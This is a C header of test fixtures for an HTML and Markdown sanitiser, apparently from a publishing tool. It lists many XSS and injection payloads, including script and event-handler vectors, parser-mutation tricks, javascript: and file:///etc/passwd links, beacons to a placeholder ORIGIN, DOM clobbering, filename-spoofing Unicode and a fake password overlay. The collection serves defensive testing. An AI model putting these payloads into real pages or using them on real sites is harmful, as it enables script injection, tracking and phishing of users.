/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Texts that want to do what a story must not: run a script, reach another machine, dress up as
 * part of the page. Shared by the tests of what is written (text) and of what is shown (preview).
 *
 * "ORIGIN" stands for an address that counts who asks, "HOST" for it without its scheme, and
 * "PWN" for a script that leaves a trace. A control with the same texts and without locks must
 * leave traces, or the tests prove nothing.
 */
#pragma once

#include <string.h>

#include <glib.h>

static const char *const hostile_html[] = {
  /* Scripts, in the open and in the parser's corners */
  "<script>PWN</script>",
  "<script src=ORIGIN/script.js></script>",
  "<script type=module>import 'ORIGIN/module.js'; PWN</script>",
  "<script nomodule>PWN</script>",
  "<scr\n<script>PWN</script>ipt>PWN</script>",
  "</script><script>PWN</script>",
  "<script><!--<script>PWN</script>-->PWN</script>",
  "<noscript><style></noscript><img src=ORIGIN/noscript onerror=\"PWN\"></style></noscript>",
  "<noscript><p title=\"</noscript><script>PWN</script>\"></noscript>",
  "<template><img src=ORIGIN/template onerror=\"PWN\"></template>",
  "<template shadowrootmode=open><img src=ORIGIN/shadow onerror=\"PWN\"></template>",
  "<div><template shadowroot=open><script>PWN</script></template></div>",
  "<style><img src=\"</style><img src=ORIGIN/style onerror=PWN>\"></style>",
  "<title><a title=\"</title><img src=ORIGIN/title onerror=PWN>\"></title>",
  "<textarea><p title=\"</textarea><img src=ORIGIN/textarea onerror=PWN>\"></textarea>",
  "<xmp><p title=\"</xmp><img src=ORIGIN/xmp onerror=PWN>\"></xmp>",
  "<noembed><p id=\"</noembed><img src=ORIGIN/noembed onerror=PWN>\"></noembed>",
  "<noframes><p id=\"</noframes><img src=ORIGIN/noframes onerror=PWN>\"></noframes>",
  "<iframe><p id=\"</iframe><img src=ORIGIN/iframe-text onerror=PWN>\"></iframe>",
  "<plaintext><img src=ORIGIN/plaintext onerror=PWN>",
  "<listing>\n<img src=ORIGIN/listing onerror=PWN></listing>",
  "<!--><img src=ORIGIN/comment onerror=PWN>-->",
  "<!--- --!><img src=ORIGIN/comment-bang onerror=PWN> -->",
  "<?php ?><img src=ORIGIN/pi onerror=PWN>",
  "<![CDATA[ ]]><img src=ORIGIN/cdata onerror=PWN>",
  "<p title='a\"><img src=ORIGIN/quotes onerror=PWN>'>a</p>",
  "<p title=`a\"><img src=ORIGIN/backticks onerror=PWN>`>a</p>",
  "<p title=\"&quot;&gt;&lt;img src=ORIGIN/entities onerror=PWN&gt;\">a</p>",
  "<p lang=\"&quot; onmouseover=&quot;PWN\">a</p>",
  "<img alt=\"--&gt;&lt;img src=ORIGIN/alt onerror=PWN&gt;\" src=a.png>",

  /* Foreign content, and what changes its place when it is parsed again */
  "<svg onload=\"PWN\"></svg>",
  "<svg><script>PWN</script></svg>",
  "<svg><script href=ORIGIN/svg.js></script></svg>",
  "<svg><script xlink:href=ORIGIN/svg-xlink.js></script></svg>",
  "<svg><image href=ORIGIN/svg-image /><use href=\"ORIGIN/use.svg#a\"/></svg>",
  "<svg><a href=\"javascript:PWN\"><text y=20>a</text></a></svg>",
  "<svg><animate attributeName=href values=\"javascript:PWN\"/><set onbegin=\"PWN\"/></svg>",
  "<svg><foreignObject><iframe srcdoc=\"<script>PWN</script>\"></iframe></foreignObject></svg>",
  "<svg><foreignobject><math><mi><style><img src=ORIGIN/foreign onerror=PWN></style></mi></math>",
  "<svg><desc><p><svg><style><img title=\"</style><img src=ORIGIN/desc onerror=PWN>\">",
  "<svg><title><style><img src=\"</style><img src=ORIGIN/svg-title onerror=PWN>\"></title></svg>",
  "<svg></p><style><a title=\"</style><img src=ORIGIN/svg-p onerror=PWN>\">",
  "<svg><p><style><!--</style><img title=\"--><img src=ORIGIN/svg-style onerror=PWN>\">",
  "<svg><style>@import url(ORIGIN/svg-import)</style><rect fill=\"url(ORIGIN/fill)\"/></svg>",
  "<math><mtext><table><mglyph><style><img src=ORIGIN/mglyph onerror=PWN></style></table>",
  "<math><mtext><mglyph><svg><mtext><textarea><path id=\"</textarea>"
  "<img onerror=PWN src=ORIGIN/path>\">",
  "<math href=\"javascript:PWN\">a</math>",
  "<math><maction actiontype=\"statusline#ORIGIN/maction\" xlink:href=\"javascript:PWN\">a",
  "<math><annotation-xml encoding=\"text/html\"><img src=ORIGIN/annotation onerror=PWN>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
  "<img onerror=PWN src=ORIGIN/form>\">",
  "<table><style><img src=\"</style><img src=ORIGIN/table onerror=PWN>\">",
  "<select><option><style></option></select><img src=ORIGIN/select onerror=PWN></style>",
  "<p><table><tr><p><td><img src=ORIGIN/foster onerror=PWN>",
  "<a href=a><b><p><a href=\"javascript:PWN\">x</b></a>",

  /* Events */
  "<img src=ORIGIN/event onerror=\"PWN\" onload=\"PWN\">",
  "<img src=a/onerror=\"PWN\">",
  "<image src=ORIGIN/image onerror=PWN>",
  "<p onmouseover=\"PWN\" onfocus=\"PWN\" tabindex=1 autofocus>a</p>",
  "<details open ontoggle=\"PWN\"><summary>a</summary>b</details>",
  "<div style=\"animation:a 1s\" onanimationstart=\"PWN\" onscroll=\"PWN\">a</div>",
  "<input autofocus onfocus=\"PWN\"><select autofocus onfocus=\"PWN\"></select>",
  "<body onload=\"PWN\" onpageshow=\"PWN\"><p>a",
  "<marquee onstart=\"PWN\">a</marquee>",
  "<video onerror=\"PWN\"><source src=ORIGIN/video-source onerror=\"PWN\"></video>",
  "<x-element onclick=\"PWN\" contenteditable accesskey=x popover>a</x-element>",

  /* Addresses */
  "<a href=\"javascript:PWN\">a</a>",
  "<a href=\"&#x6a;avascript&#58;PWN\">a</a>",
  "<a href=\"\x02\n java\tscript\r:PWN\">a</a>",
  "<a href=\"jav\xc2\xad" "ascript:PWN\">a</a>",
  "<a href=\"vbscript:PWN\">a</a><a href=\"livescript:PWN\">b</a>",
  "<a href=\"data:text/html,<script>PWN</script>\">a</a>",
  "<a href=\"file:///etc/passwd\">a</a><a href=\"blob:ORIGIN/a\">b</a>",
  "<a href=\"marbre:///templates/quotidien.html\">a</a><a href=\"about:blank\">b</a>",
  "<a href=\"view-source:ORIGIN/\">a</a><a href=\"filesystem:ORIGIN/\">b</a>",
  "<a href=\"feed:javascript:PWN\">a</a><a href=\"intent:PWN\">b</a>",
  "<a href=a target=_top ping=\"ORIGIN/ping\" rel=opener download attributionsrc=ORIGIN/at>a</a>",
  "<area href=\"javascript:PWN\"><map name=m><area shape=default href=ORIGIN/area></map>",
  "<img src=\"javascript:PWN\"><img src=\"data:image/svg+xml,<svg onload='PWN'/>\">",
  "<img src=\"file:///etc/passwd\"><img src=\"marbre:///media/../x\"><img src=\"\\\\HOST\\unc\">",
  "<img src=\"//HOST/protocol\"><img src=\"https:HOST/one\"><img src=\"http:/HOST/two\">",
  "<img srcset=\"ORIGIN/srcset 1x\" sizes=1px><img lowsrc=ORIGIN/lowsrc dynsrc=ORIGIN/dynsrc>",
  "<picture><source srcset=\"ORIGIN/source\"><img src=a.png></picture>",
  "<q cite=\"javascript:PWN\">a</q><blockquote cite=\"data:text/html,a\"><p>b</blockquote>",

  /* Other ways out */
  "<base href=\"ORIGIN/base/\"><img src=base.png>",
  "<meta http-equiv=refresh content=\"0;url=ORIGIN/refresh\">",
  "<meta http-equiv=refresh content=\"0;url=javascript:PWN\">",
  "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
  "<meta name=referrer content=unsafe-url><meta charset=utf-7>",
  "<link rel=stylesheet href=ORIGIN/sheet.css><link rel=preload as=image href=ORIGIN/preload>",
  "<link rel=prefetch href=ORIGIN/prefetch><link rel=dns-prefetch href=//HOST>",
  "<link rel=preconnect href=ORIGIN><link rel=icon href=ORIGIN/icon><link rel=import href=ORIGIN>",
  "<link rel=modulepreload href=ORIGIN/modulepreload><link rel=manifest href=ORIGIN/manifest>",
  "<iframe src=ORIGIN/iframe></iframe><iframe srcdoc=\"<script>PWN</script>\"></iframe>",
  "<frameset><frame src=ORIGIN/frame></frameset>",
  "<object data=ORIGIN/object></object><embed src=ORIGIN/embed><applet code=ORIGIN/applet>",
  "<object data=\"data:text/html,<script>PWN</script>\"><img src=a onerror=PWN></object>",
  "<portal src=ORIGIN/portal></portal><fencedframe src=ORIGIN/fenced></fencedframe>",
  "<form action=ORIGIN/form><button formaction=\"javascript:PWN\">a</button></form>",
  "<form id=f action=ORIGIN/form></form><input type=image src=ORIGIN/input form=f>",
  "<isindex action=ORIGIN/isindex prompt=PWN><keygen autofocus onfocus=PWN>",
  "<video src=ORIGIN/video poster=ORIGIN/poster autoplay></video><audio src=ORIGIN/audio></audio>",
  "<video><track kind=captions src=ORIGIN/track default></video>",
  "<body background=ORIGIN/background><table background=ORIGIN/table><td background=ORIGIN/td>a",

  /* Styles */
  "<style>@import url(ORIGIN/import);body{background:url(ORIGIN/body)}</style>",
  "<style>@font-face{font-family:a;src:url(ORIGIN/font)}p{font-family:a}</style>",
  "<style>*{display:none!important}</style>",
  "<p style=\"background:url(ORIGIN/style-url)\">a</p>",
  "<p style=\"background:\\75 rl(ORIGIN/escaped)\">a</p>",
  "<p style=\"width:expression(PWN);-moz-binding:url(ORIGIN/xbl);behavior:url(ORIGIN/htc)\">a</p>",
  "<p style=\"position:fixed;inset:0;z-index:99999;background:#fff\">Your password has ended</p>",
  "<font color=\"red;background:url(ORIGIN/font-color)\" face=x size=99>a</font>",

  /* Dressing up as the page, or standing in its script's way */
  "<p data-marbre-slot=body data-line=\"0 9\" data-marbre-marked>a</p>",
  "<h1 data-marbre-slot=headline>Another headline</h1>",
  "<button data-marbre-action=copy-link>a</button><a data-marbre-action=copy-link href=b>c</a>",
  "<p class=\"marbre-remote masthead headline standfirst\" data-theme=dark slot=body>a</p>",
  "<p id=marbre>a</p><p id=body>b</p><p id=head>c</p><p id=documentElement>d</p>",
  "<img name=marbre src=a.png><img name=body src=b.png><img name=querySelectorAll src=c.png>",
  "<form name=body><input name=querySelector><input name=childNodes><input name=remove></form>",
  "<a id=marbre name=apply href=a>a</a><a id=marbre name=html href=b>b</a>",
  "<form id=marbre><output name=apply>a</output></form><object name=webkit></object>",
  "<p is=x-slot part=body exportparts=a inert hidden aria-hidden=true role=alert>a</p>",
  "<dialog open>a</dialog><p popover id=pop>b</p><button popovertarget=pop>c</button>",
  "<p id=\"a\" id=\"b\" class=x class=y onclick=PWN onclick=PWN>a</p>",
  "</div></article></main></body></html><script>PWN</script>",
  "</title></head><body onload=PWN>",

  /* Directions: what is read is not what is written */
  "<bdo dir=rtl>gnp.exe</bdo> \xe2\x80\xae" "gpj.exe\xe2\x80\xac \xe2\x81\xa6 \xe2\x80\x8b",

  /* Characters that are none */
  "<p>\xef\xbf\xbe \xef\xbf\xbf \x01\x02\x1f \x7f</p><\x01script>PWN</script>",
  "&#0;&#x110000;&#xd800;&#x80;&#60;script&#62;PWN&lt;/script&gt;",
};

static const char *const hostile_markdown[] = {
  "[a](javascript:PWN)",
  "[a](<java\tscript:PWN>)",
  "[a](&#x6A;avascript:PWN)",
  "[a](JaVaScRiPt&colon;PWN)",
  "[a](vbscript:PWN) [b](data:text/html,x) [c](file:///etc/passwd)",
  "[a][b]\n\n[b]: javascript:PWN \"title\"",
  "[javascript:PWN]\n\n[javascript:PWN]: javascript:PWN",
  "<javascript:PWN> <data:text/html,x> <file:///etc/passwd>",
  "![a](javascript:PWN) ![b](data:image/svg+xml,<svg/onload=PWN>)",
  "![a](ORIGIN/picture.png \"t\\\" onerror=PWN \")",
  "![a\" onerror=\"PWN](x.png)",
  "![a](x.png'onerror='PWN)",
  "![Caption <script>PWN</script>](ORIGIN/figure.png \"<img src=x onerror=PWN> — Credit: <b>\")",
  "[![a](ORIGIN/in-link.png)](javascript:PWN)",
  "# <img src=ORIGIN/heading onerror=PWN> {#marbre .headline onclick=PWN}",
  "## \" onmouseover=\"PWN",
  "ORIGIN/embed\"onmouseover=\"PWN",
  "ORIGIN/<script>PWN</script>",
  "ORIGIN/card",
  "www.HOST/\"onclick=PWN",
  "```\" onclick=PWN\na\n```",
  "``` <script>PWN</script>\na\n```",
  "~~~html\n<script>PWN</script>\n~~~",
  "`<script>PWN</script>`",
  "> [!pullquote] <script>PWN</script>\n> <img src=ORIGIN/pullquote onerror=PWN>",
  "> [!read-also]\n> [a](javascript:PWN)",
  "> [!box\" onclick=\"PWN]\n> a",
  "[^a\" onclick=\"PWN]\n\n[^a\" onclick=\"PWN]: <script>PWN</script>",
  "[^<img src=x onerror=PWN>]\n\n[^<img src=x onerror=PWN>]: note",
  "| a | <img src=ORIGIN/cell onerror=PWN> |\n|---|:-:|\n| <script>PWN</script> | b |",
  "a <script>PWN</script> b <img src=ORIGIN/inline onerror=PWN> c",
  "<div>\n\n**a**\n\n</div></div></div></main></body>",
  "<div data-marbre-slot=body>\n\nafter\n\n</div>",
  "<table><tr><td>\n\n- a\n\n</td></tr></table><style>\n\n* {display: none}\n\n</style>",
  "<!--\n\n<script>PWN</script>\n\n-->\n\n<script>\n\nPWN\n\n</script>",
  "<textarea>\n\nall that follows\n\n# is swallowed",
  "<a href='javascript:PWN'\n\nonclick=PWN>",
  "*<b>*</b><i onclick=PWN>**</i>**",
  "- <li onclick=PWN>\n  - </ul></ul><script>PWN</script>",
  "TK<script>PWN</script>TK",
  "&lt;script&gt;PWN&lt;/script&gt;",
  "\xe2\x80\xae" "desrever",
};

/* The same text with its three words in place. */
static inline char *
hostile_text (const char *vector, const char *origin, const char *pwn)
{
  GString *text = g_string_new (vector);

  g_string_replace (text, "ORIGIN", origin, 0);
  g_string_replace (text, "HOST", strstr (origin, "://") + 3, 0);
  g_string_replace (text, "PWN", pwn, 0);
  return g_string_free (text, FALSE);
}
